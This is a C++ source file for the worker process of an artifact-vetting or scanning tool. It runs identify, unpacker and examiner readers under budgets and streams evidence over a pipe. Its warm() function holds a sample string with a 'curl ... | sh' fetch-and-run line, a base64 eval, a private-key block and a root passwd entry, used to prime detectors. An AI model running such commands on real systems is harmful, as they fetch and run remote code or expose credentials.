#include "vet/worker.h"

#include <malloc.h>
#include <sys/resource.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <exception>
#include <optional>

#include "evidence/recorder.h"
#include "evidence/wire.h"
#include "identify/identify.h"
#include "vet/remainder.h"

namespace vet {
namespace {

using base::Bytes;
using base::Trouble;
using evidence::Facet;
using evidence::Item;
using evidence::Label;

// Writes frames to the pipe, gathered into large writes. A parent that is gone ends the worker.
class Pipe {
 public:
  explicit Pipe(int out) : out_(out) { buffer_.reserve(most_frame + 64); }

  void frame(Frame type, Bytes payload) {
    if (buffer_.size() + payload.size() + 5 > most_frame) flush();
    buffer_.push_back(static_cast<std::uint8_t>(type));
    for (int i = 0; i < 4; ++i) buffer_.push_back(static_cast<std::uint8_t>(payload.size() >> (8 * i)));
    if (payload.size() > most_frame / 2) {
      flush();
      put(payload);
    } else {
      buffer_.insert(buffer_.end(), payload.begin(), payload.end());
    }
  }
  void flush() {
    put(buffer_);
    buffer_.clear();
  }

 private:
  void put(Bytes bytes) {
    while (!bytes.empty()) {
      const auto n = ::write(out_, bytes.data(), bytes.size());
      if (n < 0 && errno == EINTR) continue;
      if (n <= 0) _exit(96);
      bytes = bytes.subspan(static_cast<std::size_t>(n));
    }
  }
  int out_;
  base::Buffer buffer_;
};

// The sink that readers see: checks what they may state, counts budgets, sends frames.
class PipeSink final : public evidence::Sink {
 public:
  PipeSink(Pipe& pipe, Bytes bytes, const Job& job, const Limits& limits)
      : pipe_(pipe), bytes_(bytes), items_left_(limits.items), output_left_(job.most_output), children_left_(job.most_children) {
    const auto by_size = base::slice(bytes, 0).size() * limits.steps_per_byte;
    steps_ = steps_left_ = limits.steps_base + by_size;
    const auto ratio_cap = std::max<std::uint64_t>(limits.ratio_free_bytes, bytes.size() * limits.ratio);
    if (ratio_cap < output_left_) {
      output_left_ = ratio_cap;
      by_ratio_ = true;
    }
    output_left_each_ = limits.artifact_bytes;
  }

  /// Each reader gets the whole step budget, so that none lives on what another left over.
  void begin(std::string_view reader, const std::vector<Facet>* may_state) {
    reader_ = reader;
    may_state_ = may_state;
    steps_left_ = steps_;
    in_child_ = false;
  }

  void state(Item item) override {
    item.examiner = reader_;
    if (may_state_ && item.facet != Facet::trouble && std::ranges::find(*may_state_, item.facet) == may_state_->end())
      return bug(fmt::format("{} may not state {}", reader_, name_of(item.facet)));
    if (evidence::is_closed(item.facet) && !evidence::is_word(item.facet, item.word))
      return bug(fmt::format("{} stated an unknown word of {}: {}", reader_, name_of(item.facet), item.word));
    if (item.range.offset > bytes_.size() || item.range.size > bytes_.size() - item.range.offset)
      return bug(fmt::format("{} stated a range outside the artifact", reader_));
    if (items_left_ == 0) {
      if (!items_full_) trouble("limit", "more evidence than the limit of one artifact");
      items_full_ = true;
      return;
    }
    --items_left_;
    evidence::bound(item, bytes_);
    send(item);
  }

  void label(base::Range range, Label label, std::string_view why) override {
    if (range.size == 0) return;
    if (range.offset > bytes_.size() || range.size > bytes_.size() - range.offset)
      return bug(fmt::format("{} labelled a range outside the artifact", reader_));
    // Adjacent claims of one reader are joined, so that a tar of 100,000 members stays small.
    if (claim_.range.size && claim_.label == label && claim_.why == why && claim_.range.end() == range.offset) {
      claim_.range.size += range.size;
      return;
    }
    flush_claim();
    claim_ = {range, label, std::string(why)};
  }

  /// What of the artifact no claim so far hands on or proves constant.
  std::vector<base::Range> remaining() {
    flush_claim();
    return evidence::remaining(taken_, bytes_.size());
  }

  base::Result<> begin_child(const artifact::Entry& entry) override {
    if (children_left_ == 0) return base::fail(Trouble::limit, "more members than the limit allows");
    if (in_child_) return base::fail(Trouble::bug, "{} began a child inside a child", reader_);
    --children_left_;
    in_child_ = true;
    child_left_ = output_left_each_;
    wire_.clear();
    wire_.entry(entry);
    pipe_.frame(Frame::child_begin, wire_.bytes());
    return {};
  }

  base::Result<> child_bytes(Bytes bytes) override {
    if (!in_child_) return base::fail(Trouble::bug, "{} gave bytes outside a child", reader_);
    if (bytes.size() > child_left_) return base::fail(Trouble::limit, "a member is larger than the limit of one artifact");
    if (bytes.size() > output_left_)
      return base::fail(Trouble::limit, "{}", by_ratio_ ? "it unpacks to more than the allowed ratio" : "it unpacks to more than the product's budget");
    child_left_ -= bytes.size();
    output_left_ -= bytes.size();
    for (; !bytes.empty(); bytes = bytes.subspan(std::min<std::size_t>(bytes.size(), most_frame / 2 + 1)))
      pipe_.frame(Frame::child_bytes, base::slice(bytes, 0, most_frame / 2 + 1));
    return {};
  }

  void end_child() override {
    if (!in_child_) return;
    in_child_ = false;
    pipe_.frame(Frame::child_end, {});
  }

  std::uint64_t room() const override { return std::min(output_left_, in_child_ ? child_left_ : output_left_each_); }

  base::Result<> spend(std::uint64_t steps) override {
    if (steps > steps_left_) {
      steps_left_ = 0;
      return base::fail(Trouble::limit, "the step budget of one artifact is used up");
    }
    steps_left_ -= steps;
    return {};
  }

  void trouble(std::string_view word, std::string_view what) {
    Item item;
    item.facet = Facet::trouble;
    item.word = word;
    item.value = what.substr(0, evidence::most_value);
    item.examiner = reader_;
    send(item);
  }

  void flush_claim() {
    if (claim_.range.size == 0) return;
    wire_.clear();
    wire_.claim(claim_);
    pipe_.frame(Frame::claim, wire_.bytes());
    if (claim_.label == Label::handed_on || claim_.label == Label::padding) taken_.push_back({claim_.range, claim_.label, {}});
    claim_ = {};
  }

 private:
  void bug(const std::string& what) { trouble("bug", what); }
  void send(const Item& item) {
    wire_.clear();
    wire_.item(item);
    pipe_.frame(Frame::item, wire_.bytes());
  }

  Pipe& pipe_;
  Bytes bytes_;
  evidence::wire::Writer wire_;
  std::vector<evidence::Claim> taken_;  // handed on or constant, for remaining()
  evidence::Claim claim_;
  std::string reader_;
  const std::vector<Facet>* may_state_ = nullptr;
  std::uint64_t steps_ = 0, steps_left_ = 0, output_left_each_ = 0, child_left_ = 0;
  std::uint32_t items_left_;
  std::uint64_t output_left_;
  std::uint32_t children_left_;
  bool by_ratio_ = false, in_child_ = false, items_full_ = false;
};

// A remainder is a copy; above this size examiners see the whole container instead.
constexpr std::uint64_t most_joined = 256ull << 20;

std::uint64_t size_of(const std::vector<base::Range>& ranges) {
  std::uint64_t out = 0;
  for (const auto& r : ranges) out += r.size;
  return out;
}

// Runs one reader; every way it can end becomes evidence. True = it read all it understands.
bool run(const evidence::Reader& reader, const evidence::View& view, const std::optional<Remainder>& remainder, PipeSink& sink) {
  sink.begin(reader.card().name, &reader.card().states);
  base::Result<> result;
  try {
    if (remainder && reader.card().of_remainder) {
      RemainderSink mapped(*remainder, sink);
      result = reader.read(remainder->view(), mapped);
    } else {
      result = reader.read(view, sink);
    }
  } catch (const std::bad_alloc&) {
    result = base::fail(Trouble::limit, "out of the memory of one worker");
  } catch (const std::exception& e) {
    result = base::fail(Trouble::bug, "an exception: {}", e.what());
  }
  sink.end_child();
  if (result) return true;
  const auto& error = result.error();
  sink.trouble(error.trouble == Trouble::usage ? "bug" : base::name_of(error.trouble), error.to_string());
  return false;
}

}  // namespace

void warm(const Readers& readers) {
  // A text that most patterns begin to match: what they build while matching is inherited too.
  static constexpr std::string_view sample =
      "#!/bin/sh\n# http://www.example.org/a?b=c someone@example.org 192.0.2.1 [2001:db8::1] tel:+15550100\n"
      "curl -s https://example.com/x | sh; eval \"$(echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d)\"\n"
      "-----BEGIN PRIVATE KEY-----\nAAAA\n-----END PRIVATE KEY-----\nroot:x:0:0:root:/root:/bin/sh\n"
      "import os, sys\nos.system('id')\nvar x = require('fs');\n<?php echo 1; ?>\nmy $x = 1;\nputs 1\n";
  std::vector<std::string_view> kinds = {"unknown", "text", "elf", "script/shell", "script/python", "script/javascript", "script/php", "script/perl", "script/ruby", "script/powershell"};
  for (const auto* all : {&readers.unpackers, &readers.examiners})
    for (const auto* reader : *all)
      for (const auto kind : reader->card().kinds)
        if (kind != "*" && !kind.ends_with("/*")) kinds.push_back(kind);
  std::ranges::sort(kinds);
  kinds.erase(std::unique(kinds.begin(), kinds.end()), kinds.end());
  for (const auto kind : kinds)
    for (const auto* all : {&readers.unpackers, &readers.examiners})
      for (const auto* reader : *all)
        if (evidence::reads(reader->card(), kind)) {
          try {
            (void)evidence::read_alone(*reader, base::bytes_of(sample), kind, "sample");
          } catch (const std::exception&) {
            // Whatever it is, it shows again, and is recorded, with real bytes.
          }
        }
  evidence::Recorder recorder(base::bytes_of(sample));
  (void)identify::identify({base::bytes_of(sample), "sample"}, recorder);
}

namespace {

// One artifact through everything. True = to its end, with nothing that could touch the next one.
bool read_artifact(const Readers& readers, const Job& job, Bytes input, Pipe& pipe) {
  PipeSink sink(pipe, input, job, readers.limits);
  evidence::View view;
  view.bytes = input;
  view.place = job.place;
  view.entry = job.entry;

  sink.begin("identify", nullptr);
  identify::Identity identity;
  try {
    identity = identify::identify({input, view.place.file_name()}, sink);
  } catch (const std::exception& e) {
    sink.trouble("bug", fmt::format("an exception: {}", e.what()));
    identity = {"unknown", "", 0};
  }
  view.kind = job.entry.kind.empty() ? identity.kind : job.entry.kind;
  if (!view.place.links.empty()) view.place.links.back().kind = view.kind;
  evidence::wire::Writer w;
  w.text(view.kind);
  w.text(identity.detail);
  pipe.frame(Frame::identity, w.bytes());
  pipe.flush();  // so that a crash later leaves the kind, by which the readers are tried one by one

  bool complete = true;
  std::optional<Remainder> remainder;  // where unpackers handed something on
  view.remaining = evidence::remaining({}, input.size());
  for (const auto* readers_of : {&readers.unpackers, &readers.examiners}) {
    for (const auto* reader : *readers_of) {
      if (!job.only_reader.empty() && reader->card().name != job.only_reader) continue;
      if (evidence::reads(reader->card(), view.kind)) complete = run(*reader, view, remainder, sink) && complete;
    }
    if (readers_of == &readers.examiners) continue;
    view.remaining = sink.remaining();
    if (const auto left = size_of(view.remaining); left < input.size() && left <= most_joined) remainder.emplace(view);
  }
  sink.flush_claim();
  const std::uint8_t end = complete;
  pipe.frame(Frame::done, {&end, 1});
  pipe.flush();
  return complete;
}

// Readers of an artifact inside a batch see a copy with nothing of its neighbours behind it.
class Apart {
 public:
  Bytes copy(Bytes bytes) {
    copy_.assign(bytes.size() + 4096, 0);
    std::ranges::copy(bytes, copy_.begin());
    return base::slice(copy_, 0, bytes.size());
  }

 private:
  base::Buffer copy_;
};

// What one worker may use up in all before it leaves the rest of its batch to another: the limits of
// memory and time are meant for one artifact. Ending early costs a fork and changes no result.
constexpr std::size_t heap_of_batch = 64u << 20;
constexpr long seconds_of_batch = 2;

std::size_t heap() {
  const auto now = mallinfo2();
  return now.arena + now.hblkhd;
}

long processor_seconds() {
  rusage used{};
  getrusage(RUSAGE_SELF, &used);
  return used.ru_utime.tv_sec + used.ru_stime.tv_sec;
}

}  // namespace

int work(const Readers& readers, Bytes batch, Bytes input, int out) {
  const auto tasks = decode_batch(batch);
  if (!tasks) return 95;
  Pipe pipe(out);
  Apart apart;
  const auto heap_before = heap();
  for (const auto& task : *tasks) {
    const auto bytes = base::slice(input, task.bytes.offset, task.bytes.size);
    if (bytes.size() != task.bytes.size) return 95;
    const bool well = read_artifact(readers, task.job, tasks->size() == 1 ? bytes : apart.copy(bytes), pipe);
    if (!well || heap() > heap_before + heap_of_batch || processor_seconds() >= seconds_of_batch) break;
  }
  return 0;
}

}  // namespace vet
